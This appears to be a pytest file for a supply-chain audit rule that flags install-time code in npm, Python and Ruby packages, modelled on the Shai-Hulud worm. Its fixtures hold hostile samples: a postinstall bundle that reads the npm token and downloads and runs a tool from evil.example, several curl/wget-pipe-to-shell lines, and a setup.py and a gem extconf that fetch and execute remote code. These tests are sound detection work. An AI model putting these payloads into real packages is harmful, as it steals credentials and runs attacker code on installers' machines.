"""deps/install-script: code that runs at install time, added or altered by a range.

Cases in the shape of the Shai-Hulud worm (2025): a dependency update whose release adds a
``postinstall`` that downloads and runs a payload and reads the npm token, and new lockfile
entries with ``hasInstallScript``; and the near-misses a well-run repository has every day
(``node-gyp rebuild``, an unchanged ``prepare``, a version bump in setup.py)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import git
import pytest

from gatekeeper.audit import AuditContext, run_audits
from gatekeeper.audit._installrisk import install_risk, is_native_build, is_standard_build
from gatekeeper.collect.base import CollectContext
from gatekeeper.collect.deps import DepsCollector
from gatekeeper.models.finding import Finding
from tests.conftest import commit_files


def findings(root: Path, base: str | None = "HEAD~1") -> list[Finding]:
    evidence = DepsCollector().collect(CollectContext(repo=root, base=base))
    found = run_audits({"deps": evidence}, AuditContext(repo=root, base=base))
    return [f for f in found if f.rule == "deps/install-script"]


def root_of(repo: git.Repo) -> Path:
    return Path(repo.working_tree_dir or ".")


def package_json(scripts: dict[str, str], deps: dict[str, str] | None = None) -> str:
    data: dict[str, Any] = {"name": "@acme/widgets", "version": "2.3.0", "scripts": scripts}
    data["dependencies"] = deps or {"@ctrl/tinycolor": "^4.1.0"}
    return json.dumps(data, indent=2) + "\n"


# A payload in the shape of Shai-Hulud's bundle.js: fetch a tool, run it, read the token.
BUNDLE_JS = """\
const { execSync } = require("child_process");
const https = require("https");
const fs = require("fs");
const os = require("os");
const token = process.env.NPM_TOKEN || fs.readFileSync(os.homedir() + "/.npmrc", "utf8");
https.get("https://evil.example/trufflehog.tar.gz", (res) => {
  res.pipe(fs.createWriteStream("/tmp/t.tgz")).on("finish", () => {
    execSync("tar xzf /tmp/t.tgz -C /tmp && /tmp/trufflehog filesystem / --json");
  });
});
"""


def test_shai_hulud_postinstall_running_a_downloaded_payload_is_high(git_repo: git.Repo) -> None:
    commit_files(git_repo, {"package.json": package_json({"test": "jest"})})
    commit_files(
        git_repo,
        {
            "package.json": package_json(
                {"test": "jest", "postinstall": "node bundle.js"}, {"@ctrl/tinycolor": "^4.1.1"}
            ),
            "bundle.js": BUNDLE_JS,
        },
    )
    (found,) = findings(root_of(git_repo))
    assert (found.severity.value, found.path) == ("high", "package.json")
    assert found.line == 6  # the "postinstall" key
    assert "adds the postinstall script" in found.message
    assert "downloads" in found.message and "executes" in found.message


@pytest.mark.parametrize(
    ("script", "why"),
    [
        ("curl -fsSL https://evil.example/setup.sh | sh", "fetches and runs remote code"),
        (
            "node -e \"require('child_process').execSync('wget -qO- https://evil.example/x | bash')\"",
            "fetches and runs remote code",
        ),
        ("cat ~/.npmrc > /tmp/x; node upload.js", "reads credentials"),
        ("echo 'curl x' >> ~/.bashrc", "writes outside the package"),
        ("npm install https://evil.example/pkg.tgz", "installs code from outside the lockfile"),
    ],
)
def test_risky_lifecycle_script_added_is_high(git_repo: git.Repo, script: str, why: str) -> None:
    commit_files(git_repo, {"package.json": package_json({"build": "tsc"})})
    commit_files(git_repo, {"package.json": package_json({"build": "tsc", "preinstall": script})})
    (found,) = findings(root_of(git_repo))
    assert found.severity.value == "high" and why in found.message


def test_a_changed_prepare_script_is_medium(git_repo: git.Repo) -> None:
    commit_files(git_repo, {"package.json": package_json({"prepare": "npm run build"})})
    commit_files(
        git_repo,
        {"package.json": package_json({"prepare": "npm run build && node scripts/post.js"})},
    )
    (found,) = findings(root_of(git_repo))
    assert found.severity.value == "medium" and "changes the prepare script" in found.message


def test_the_file_a_script_runs_changing_is_a_change(git_repo: git.Repo) -> None:
    scripts = {"postinstall": "node scripts/setup.js"}
    commit_files(
        git_repo, {"package.json": package_json(scripts), "scripts/setup.js": "console.log('hi')\n"}
    )
    commit_files(git_repo, {"scripts/setup.js": BUNDLE_JS})
    (found,) = findings(root_of(git_repo))
    assert found.severity.value == "high" and "changes the postinstall script" in found.message


def test_near_miss_node_gyp_rebuild_is_low(git_repo: git.Repo) -> None:
    commit_files(git_repo, {"package.json": package_json({"test": "jest"})})
    commit_files(
        git_repo, {"package.json": package_json({"test": "jest", "install": "node-gyp rebuild"})}
    )
    (found,) = findings(root_of(git_repo))
    assert found.severity.value == "low" and "native addon" in found.message


def test_near_misses_that_do_not_fire(git_repo: git.Repo) -> None:
    # An unchanged postinstall, a new script that npm does not run on install, a dependency
    # bump: nothing runs at install time that did not before.
    commit_files(git_repo, {"package.json": package_json({"postinstall": "husky install"})})
    commit_files(
        git_repo,
        {
            "package.json": package_json(
                {"postinstall": "husky install", "lint": "eslint ."}, {"@ctrl/tinycolor": "^4.1.1"}
            )
        },
    )
    assert findings(root_of(git_repo)) == []


def test_first_audit_says_only_risky_install_code(tmp_path: Path) -> None:
    (tmp_path / "package.json").write_text(package_json({"postinstall": "node-gyp rebuild"}))
    assert findings(tmp_path, base=None) == []
    (tmp_path / "package.json").write_text(
        package_json({"postinstall": "curl -s https://evil.example/i.sh | bash"})
    )
    (found,) = findings(tmp_path, base=None)
    assert found.severity.value == "medium" and "no base" in found.message


# ------------------------------------------------------------------ lockfile entries


def lock(entries: dict[str, tuple[str, bool]]) -> str:
    packages: dict[str, Any] = {
        "": {"name": "app", "dependencies": {k: "^" + v for k, (v, _) in entries.items()}}
    }
    for name, (version, script) in entries.items():
        entry: dict[str, Any] = {
            "version": version,
            "resolved": f"https://registry.npmjs.org/{name}/-/{name.rsplit('/', 1)[-1]}-{version}.tgz",
            "integrity": "sha512-" + "A" * 86 + "==",
        }
        if script:
            entry["hasInstallScript"] = True
        packages[f"node_modules/{name}"] = entry
    return json.dumps({"name": "app", "lockfileVersion": 3, "packages": packages}, indent=2) + "\n"


def test_shai_hulud_update_that_gains_an_install_script(git_repo: git.Repo) -> None:
    commit_files(
        git_repo,
        {
            "package-lock.json": lock(
                {"@ctrl/tinycolor": ("4.1.0", False), "esbuild": ("0.19.0", True)}
            )
        },
    )
    commit_files(
        git_repo,
        {
            "package-lock.json": lock(
                {
                    "@ctrl/tinycolor": ("4.1.1", True),  # the worm's release
                    "esbuild": ("0.19.2", True),  # always had one: no finding
                    "ngx-bootstrap": ("18.1.4", True),  # new, with an install script
                }
            )
        },
    )
    found = sorted(findings(root_of(git_repo)), key=lambda f: f.message)
    assert [(f.severity.value, f.path) for f in found] == [("medium", "package-lock.json")] * 2
    assert "@ctrl/tinycolor 4.1.1 now runs an install script" in found[0].message
    assert "new dependency ngx-bootstrap 18.1.4 runs an install script" in found[1].message


def test_pnpm_requires_build_gained(git_repo: git.Repo) -> None:
    def pnpm(build: bool) -> str:
        extra = "    requiresBuild: true\n" if build else ""
        return (
            "lockfileVersion: '6.0'\n\ndependencies:\n  core-js:\n    specifier: ^3.33.0\n"
            "    version: 3.33.0\n\npackages:\n\n  /core-js@3.33.0:\n"
            "    resolution: {integrity: sha512-" + "B" * 86 + "==}\n" + extra + "    dev: false\n"
        )

    commit_files(git_repo, {"pnpm-lock.yaml": pnpm(False)})
    commit_files(git_repo, {"pnpm-lock.yaml": pnpm(True)})
    (found,) = findings(root_of(git_repo))
    assert "requiresBuild" in found.message and found.severity.value == "medium"


# ------------------------------------------------------------------ Python and gems

SETUP_PY = """\
from setuptools import setup

setup(
    name="widgets",
    version="{version}",
    packages=["widgets"],
    url="https://github.com/acme/widgets",
)
"""

SETUP_PY_FETCHING = (
    SETUP_PY
    + """\
import urllib.request
urllib.request.urlretrieve("https://evil.example/hook.py", "hook.py")
exec(open("hook.py").read())
"""
)


def test_setup_py_that_downloads_and_runs_code_is_high(git_repo: git.Repo) -> None:
    commit_files(git_repo, {"setup.py": SETUP_PY.format(version="1.0.0")})
    commit_files(git_repo, {"setup.py": SETUP_PY_FETCHING.format(version="1.0.0")})
    (found,) = findings(root_of(git_repo))
    assert (found.severity.value, found.path) == ("high", "setup.py")


def test_setup_py_in_latin_1_is_read_not_a_parse_error(git_repo: git.Repo) -> None:
    """PEP 263 lets a setup.py declare its encoding; a Latin-1 one is still read."""
    header = "# -*- coding: latin-1 -*-\n# Auteur: Fran\u00e7ois\n"
    commit_files(
        git_repo, {"setup.py": (header + SETUP_PY.format(version="1.0.0")).encode("latin-1")}
    )
    fetching = header + SETUP_PY_FETCHING.format(version="1.0.0")
    commit_files(git_repo, {"setup.py": fetching.encode("latin-1")})
    root = root_of(git_repo)
    evidence = DepsCollector().collect(CollectContext(repo=root, base="HEAD~1"))
    assert evidence.tree.errors == [] and evidence.base is not None and not evidence.base.errors
    (found,) = findings(root)
    assert (found.severity.value, found.path) == ("high", "setup.py")


def test_near_miss_setup_py_version_bump_is_low(git_repo: git.Repo) -> None:
    commit_files(git_repo, {"setup.py": SETUP_PY.format(version="1.0.0")})
    commit_files(git_repo, {"setup.py": SETUP_PY.format(version="1.0.1")})
    (found,) = findings(root_of(git_repo))
    assert found.severity.value == "low" and "none of its lines" in found.message


def test_new_setup_py_is_medium(git_repo: git.Repo) -> None:
    commit_files(git_repo, {"setup.py": SETUP_PY.format(version="1.0.0")})
    (found,) = findings(root_of(git_repo))
    assert found.severity.value == "medium" and "adds setup.py" in found.message


def pyproject(requires: str, backend: str = "setuptools.build_meta") -> str:
    return (
        '[project]\nname = "widgets"\nversion = "1.0.0"\ndependencies = []\n\n'
        f'[build-system]\nrequires = [{requires}]\nbuild-backend = "{backend}"\n'
    )


@pytest.mark.parametrize(
    ("requires", "backend", "severity"),
    [
        # A well-known backend and build tools from the index: the packaging tools' code.
        ('"hatchling>=1.18"', "hatchling.build", "low"),
        ('"setuptools>=61", "wheel", "setuptools-scm>=8,<9"', "setuptools.build_meta", "low"),
        # A build requirement that is no packaging tool runs its code at build time.
        ('"setuptools>=61", "acme-build-helper"', "setuptools.build_meta", "medium"),
        ('"hatchlinq"', "hatchling.build", "medium"),
        ('"setuptools>=61"', "acme_backend", "medium"),
        # Padding that pushes a requirement past what the evidence keeps: not known harmless.
        (
            ", ".join(['"setuptools>=61"'] * 80 + ['"acme-helper"']),
            "setuptools.build_meta",
            "medium",
        ),
        (
            '"setuptools>=61", "helper @ https://evil.example/helper-1.0-py3-none-any.whl"',
            "setuptools.build_meta",
            "high",
        ),
    ],
)
def test_build_system_change(
    git_repo: git.Repo, requires: str, backend: str, severity: str
) -> None:
    commit_files(git_repo, {"pyproject.toml": pyproject('"setuptools>=61"')})
    commit_files(git_repo, {"pyproject.toml": pyproject(requires, backend)})
    (found,) = findings(root_of(git_repo))
    assert found.severity.value == severity and "[build-system]" in found.message


def test_in_tree_build_backend_is_medium(git_repo: git.Repo) -> None:
    commit_files(git_repo, {"pyproject.toml": pyproject('"setuptools>=61"')})
    in_tree = pyproject('"setuptools>=61"', "backend").replace(
        'build-backend = "backend"', 'build-backend = "backend"\nbackend-path = ["_build"]'
    )
    commit_files(git_repo, {"pyproject.toml": in_tree, "_build/backend.py": "import os\n"})
    (found,) = findings(root_of(git_repo))
    assert found.severity.value == "medium"


@pytest.mark.parametrize(
    ("command", "standard"),
    [
        ("build-backend = flit_core.buildapi; requires = flit-core >=3.11,<5", True),
        ("build-backend = mesonpy; requires = meson-python>=0.17, Cython>3.1.0,<4.0.0a0", True),
        ("build-backend = uv_build; requires = uv_build>=0.12.3,<0.13", True),
        ("build-backend = hatchling.build", True),
        ("build-backend = hatchling.build; requires = hatchling; backend-path = .", False),
        ("build-backend = hatchling.build; requires = hatchling @ https://x.example/h.whl", False),
        ('build-backend = hatchling.build; requires = wheel; python_version < "3"', False),
        ("build-backend = hatchling.build; requires = GitPython==3.1.43, hatchling", False),
        ("build-backend = hatchling.build; requires = hatchling, setupto … (cut)", False),
    ],
)
def test_standard_build_system(command: str, standard: bool) -> None:
    assert is_standard_build(command) is standard


def test_near_miss_pyproject_dependency_change_is_no_build_change(git_repo: git.Repo) -> None:
    commit_files(git_repo, {"pyproject.toml": pyproject('"setuptools>=61"')})
    commit_files(
        git_repo,
        {
            "pyproject.toml": pyproject('"setuptools>=61"').replace(
                "dependencies = []", 'dependencies = ["requests>=2"]'
            )
        },
    )
    assert findings(root_of(git_repo)) == []


GEMSPEC = """\
Gem::Specification.new do |spec|
  spec.name = "fastparse"
  spec.version = "0.3.0"
  spec.files = Dir["lib/**/*.rb"]
{extensions}end
"""


def test_gem_native_extension_added(git_repo: git.Repo) -> None:
    commit_files(git_repo, {"fastparse.gemspec": GEMSPEC.format(extensions="")})
    commit_files(
        git_repo,
        {
            "fastparse.gemspec": GEMSPEC.format(
                extensions='  spec.extensions = ["ext/fastparse/extconf.rb"]\n'
            ),
            "ext/fastparse/extconf.rb": 'require "mkmf"\ncreate_makefile("fastparse/fastparse")\n',
        },
    )
    (found,) = findings(root_of(git_repo))
    assert (found.severity.value, found.path, found.line) == ("medium", "fastparse.gemspec", 5)
    assert "native extensions" in found.message


def test_gem_extension_whose_extconf_fetches_and_runs_code_is_high(git_repo: git.Repo) -> None:
    gemspec = GEMSPEC.format(extensions="  spec.extensions = %w[ext/fastparse/extconf.rb]\n")
    commit_files(
        git_repo, {"fastparse.gemspec": gemspec, "ext/fastparse/extconf.rb": 'require "mkmf"\n'}
    )
    commit_files(
        git_repo,
        {
            "ext/fastparse/extconf.rb": 'require "mkmf"\nsystem("curl -s https://evil.example/x.sh | sh")\n'
        },
    )
    (found,) = findings(root_of(git_repo))
    assert found.severity.value == "high"


# ------------------------------------------------------------------ the analysis


@pytest.mark.parametrize(
    "lines",
    [
        ['bash -c "$(curl -fsSL https://evil.example/i)"'],
        ["const r = await fetch(url);", "eval(await r.text())"],
        ["subprocess.check_call(['curl', '-o', 'x', url])", "requests.get(url)"],
        ["fs.readFileSync(path.join(os.homedir(), '.npmrc'))"],
        ["console.log(JSON.stringify(process.env))"],
        ["fs.writeFileSync('.github/workflows/shai-hulud.yml', wf)"],
        ["File.write(File.expand_path('~/.bashrc'), x)"],
    ],
)
def test_install_risk_fires(lines: list[str]) -> None:
    assert install_risk(lines) is not None


@pytest.mark.parametrize(
    "lines",
    [
        ["node-gyp rebuild"],
        ['url="https://github.com/acme/widgets"', "with open('README.md') as f:"],
        ["tsc -p tsconfig.build.json"],
        ["const version = process.env.npm_package_version"],
        ["fs.writeFileSync(path.join(__dirname, 'dist', 'x.js'), code)"],
        ["husky install"],
    ],
)
def test_install_risk_near_misses(lines: list[str]) -> None:
    assert install_risk(lines) is None


def test_native_build_commands() -> None:
    assert is_native_build("node-gyp rebuild")
    assert is_native_build("prebuild-install || node-gyp rebuild")
    assert not is_native_build("node-gyp rebuild && node postinstall.js")
